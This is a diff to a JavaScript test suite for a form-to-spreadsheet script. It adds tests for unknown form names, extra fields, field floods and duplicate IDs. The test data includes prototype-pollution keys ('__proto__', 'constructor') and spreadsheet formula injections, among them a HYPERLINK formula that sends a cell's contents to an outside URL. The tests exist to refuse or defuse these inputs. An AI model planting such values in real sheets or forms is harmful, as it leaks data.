@@ -114,9 +114,6 @@ describe('a submission', () => {
 
 describe('what will never be stored is refused for good', () => {
   it.each([
-    ['an unknown form', { _form: 'other' }, 'There is no such form.'],
-    ['a form by the name of something else', { _form: 'constructor' }, 'There is no such form.'],
-    ['an unknown field', { extra: 'x' }, 'This has a field that the form does not have.'],
     ['no UUID', { _id: 'x' }, 'This has no valid number of its own.'],
     [
       'an answer too long',
@@ -131,6 +128,54 @@ describe('what will never be stored is refused for good', () => {
     expect(script.tabs.size).toBe(0);
     expect(script.calls).toEqual(['answer']);
   });
+});
+
+describe('a site that is newer or older than the script loses nothing', () => {
+  it.each(['other', 'constructor', '__proto__'])('the form %j waits, alone', (form) => {
+    const script = begin();
+    expect(script.post({ ...submission, _form: form })).toEqual({
+      ok: false,
+      id,
+      retryAfter: 3_600,
+    });
+    expect(script.tabs.size).toBe(0);
+    expect(script.post(submission)).toMatchObject({ ok: true });
+  });
+
+  it('unknown answers get a column of their own, defused', () => {
+    const script = begin();
+    script.post({ ...submission, extra: '=1+1', more: 'y', empty: '' });
+    const [titles = [], row = []] = script.tabs.get('Join us')?.shown() ?? [];
+    expect(row[titles.indexOf('otherAnswers')]).toBe('extra: =1+1\nmore: y');
+    script.post({ ...submission, _id: other, '=x': '1' });
+    expect(script.tabs.get('Join us')?.shown()[2]?.[titles.indexOf('otherAnswers')]).toBe("'=x: 1");
+  });
+
+  it('a flood of unknown answers is cut off', () => {
+    const script = begin();
+    const flood = Object.fromEntries(Array.from({ length: 100 }, (_, n) => [`q${n}`, 'x']));
+    script.post({ ...submission, ...flood, ['n'.repeat(61)]: 'too long a name' });
+    const [titles = [], row = []] = script.tabs.get('Join us')?.shown() ?? [];
+    expect(String(row[titles.indexOf('otherAnswers')]).split('\n')).toHaveLength(30);
+  });
+});
+
+it.each(['=HYPERLINK("https://example.org"&D2,"x")', '2026-11-22', '2026-11-22T00:00:00.000Z=1'])(
+  'a time of capture that is none, such as %j, is left out',
+  (_capturedAt) => {
+    const script = begin();
+    script.post({ ...submission, _capturedAt });
+    const [titles = [], row = []] = script.tabs.get('Join us')?.shown() ?? [];
+    expect(row[titles.indexOf('capturedAt')]).toBe('');
+  },
+);
+
+it('finds an id without reading the column into the script', () => {
+  const script = begin();
+  for (let n = 0; n < 3; n += 1) script.post({ ...submission, _id: other.replace(/.$/, `${n}`) });
+  expect(script.post(submission)).toMatchObject({ duplicate: false });
+  expect(script.post({ ...submission, _id: id.toUpperCase() })).toMatchObject({ duplicate: true });
+  expect(script.calls.filter((call) => call === 'search')).not.toHaveLength(0);
 });
 
 describe('where it cannot be stored now', () => {
